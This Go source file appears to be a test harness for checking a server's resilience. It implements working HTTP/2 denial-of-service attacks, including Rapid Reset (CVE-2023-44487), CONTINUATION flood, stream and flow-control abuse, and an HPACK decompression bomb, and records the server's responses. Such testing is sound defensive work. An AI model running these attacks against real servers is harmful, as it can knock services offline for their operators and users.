package attacktest

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// H2Result is what a server did to an HTTP/2 attack connection.
type H2Result struct {
	// Sent counts what the attack sent: streams, frames or bytes (per attack).
	Sent int
	// Statuses counts the :status of the answers read.
	Statuses map[string]int
	// Resets counts RST_STREAM frames by error code.
	Resets map[http2.ErrCode]int
	// GoAway is the code of the server's GOAWAY, if it sent one.
	GoAway *http2.ErrCode
	// Closed reports that the server closed the connection.
	Closed bool
}

func (r H2Result) String() string {
	goAway := "none"
	if r.GoAway != nil {
		goAway = r.GoAway.String()
	}
	return fmt.Sprintf("sent %d, answers %v, resets %v, GOAWAY %s, closed %v", r.Sent, r.Statuses, r.Resets, goAway, r.Closed)
}

// h2conn is a client HTTP/2 connection (prior knowledge, h2c) driven frame by frame.
type h2conn struct {
	c   net.Conn
	fr  *http2.Framer
	enc *hpack.Encoder
	buf bytes.Buffer
	res H2Result
}

// dialH2 opens an h2c connection to addr and exchanges SETTINGS.
func dialH2(addr string) (*h2conn, error) {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	h := &h2conn{c: c, res: H2Result{Statuses: map[string]int{}, Resets: map[http2.ErrCode]int{}}}
	h.fr = http2.NewFramer(c, c)
	h.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	h.fr.MaxHeaderListSize = 16 << 20
	h.enc = hpack.NewEncoder(&h.buf)
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, err
	}
	return h, nil
}

// block encodes a request head for stream id.
func (h *h2conn) block(method, path string, extra ...hpack.HeaderField) []byte {
	h.buf.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "echo"}, {Name: ":path", Value: path},
	}, extra...) {
		h.enc.WriteField(f)
	}
	return bytes.Clone(h.buf.Bytes())
}

// drain reads frames until the server closes the connection or is quiet for
// quiet, recording answers, resets and GOAWAY.
func (h *h2conn) drain(quiet time.Duration) H2Result {
	for {
		h.c.SetReadDeadline(time.Now().Add(quiet))
		f, err := h.fr.ReadFrame()
		if err != nil {
			h.res.Closed = !errors.Is(err, os.ErrDeadlineExceeded)
			return h.res
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.c.SetWriteDeadline(time.Now().Add(time.Second))
				h.fr.WriteSettingsAck()
			}
		case *http2.MetaHeadersFrame:
			h.res.Statuses[f.PseudoValue("status")]++
		case *http2.RSTStreamFrame:
			h.res.Resets[f.ErrCode]++
		case *http2.GoAwayFrame:
			code := f.ErrCode
			h.res.GoAway = &code
		}
	}
}

func (h *h2conn) close() { h.c.Close() }

// RapidReset opens n streams, each cancelled (RST_STREAM) right after its HEADERS
// (CVE-2023-44487), then reads what the server sends.
func RapidReset(addr string, n int) (H2Result, error) {
	h, err := dialH2(addr)
	if err != nil {
		return H2Result{}, err
	}
	defer h.close()
	blk := h.block("GET", "/rapid-reset")
	for i := range n {
		id := uint32(2*i + 1)
		h.c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndStream: true, EndHeaders: true}); err != nil {
			break
		}
		if err := h.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			break
		}
		h.res.Sent++
	}
	return h.drain(time.Second), nil
}

// ContinuationFlood sends a HEADERS frame without END_HEADERS, then CONTINUATION
// frames of header fields without end (CVE-2023-45288) until the server closes the
// connection or max bytes are sent. Sent is the bytes of header block sent.
func ContinuationFlood(addr string, max int) (H2Result, error) {
	h, err := dialH2(addr)
	if err != nil {
		return H2Result{}, err
	}
	defer h.close()
	blk := h.block("GET", "/continuation")
	if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk}); err != nil {
		return h.res, err
	}
	h.res.Sent = len(blk)
	h.buf.Reset()
	for h.buf.Len() < 16000 {
		h.enc.WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("c", 1000), Sensitive: true})
	}
	frag := bytes.Clone(h.buf.Bytes())
	for h.res.Sent < max {
		h.c.SetWriteDeadline(time.Now().Add(2 * time.Second))
		if err := h.fr.WriteContinuation(1, false, frag); err != nil {
			break
		}
		h.res.Sent += len(frag)
	}
	return h.drain(time.Second), nil
}

// TooManyStreams opens n streams whose request bodies never come, more than the
// server's concurrent stream limit.
func TooManyStreams(addr string, n int) (H2Result, error) {
	h, err := dialH2(addr)
	if err != nil {
		return H2Result{}, err
	}
	defer h.close()
	blk := h.block("POST", "/streams", hpack.HeaderField{Name: "content-length", Value: "10"})
	for i := range n {
		h.c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: blk, EndHeaders: true}); err != nil {
			break
		}
		h.res.Sent++
	}
	// The refusals come once the server has read 300 HEADERS: give a busy machine time.
	return h.drain(2 * time.Second), nil
}

// WindowOverflow grows the connection's flow-control window past 2^31-1 with
// WINDOW_UPDATE frames, a flow-control error the server must end the connection for.
func WindowOverflow(addr string) (H2Result, error) {
	h, err := dialH2(addr)
	if err != nil {
		return H2Result{}, err
	}
	defer h.close()
	for range 2 {
		if err := h.fr.WriteWindowUpdate(0, 1<<31-1); err != nil {
			break
		}
		h.res.Sent++
	}
	return h.drain(time.Second), nil
}

// DataBeyondWindow sends n bytes of request body on one stream without waiting for
// WINDOW_UPDATE, more than the server's window allows.
func DataBeyondWindow(addr string, n int) (H2Result, error) {
	h, err := dialH2(addr)
	if err != nil {
		return H2Result{}, err
	}
	defer h.close()
	blk := h.block("POST", "/window")
	if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk, EndHeaders: true}); err != nil {
		return h.res, err
	}
	chunk := make([]byte, 16<<10)
	for h.res.Sent < n {
		h.c.SetWriteDeadline(time.Now().Add(2 * time.Second))
		if err := h.fr.WriteData(1, false, chunk); err != nil {
			break
		}
		h.res.Sent += len(chunk)
	}
	return h.drain(time.Second), nil
}

// HPACKBomb adds one header field of size bytes to the server's HPACK dynamic table,
// then references it refs times in one header block: a few KiB on the wire that
// decode to size*refs bytes.
func HPACKBomb(addr string, size, refs int) (H2Result, error) {
	h, err := dialH2(addr)
	if err != nil {
		return H2Result{}, err
	}
	defer h.close()
	h.buf.Reset()
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "echo"}, {Name: ":path", Value: "/hpack-bomb"},
		{Name: "x-bomb", Value: strings.Repeat("b", size)},
	} {
		h.enc.WriteField(f) // x-bomb enters the dynamic table at index 62
	}
	blk := append(bytes.Clone(h.buf.Bytes()), bytes.Repeat([]byte{0x80 | 62}, refs)...)
	h.res.Sent = len(blk)
	for i := 0; i < len(blk); i += 16 << 10 {
		frag := blk[i:min(i+16<<10, len(blk))]
		end := i+16<<10 >= len(blk)
		if i == 0 {
			err = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: frag, EndStream: true, EndHeaders: end})
		} else {
			err = h.fr.WriteContinuation(1, end, frag)
		}
		if err != nil {
			break
		}
	}
	return h.drain(time.Second), nil
}
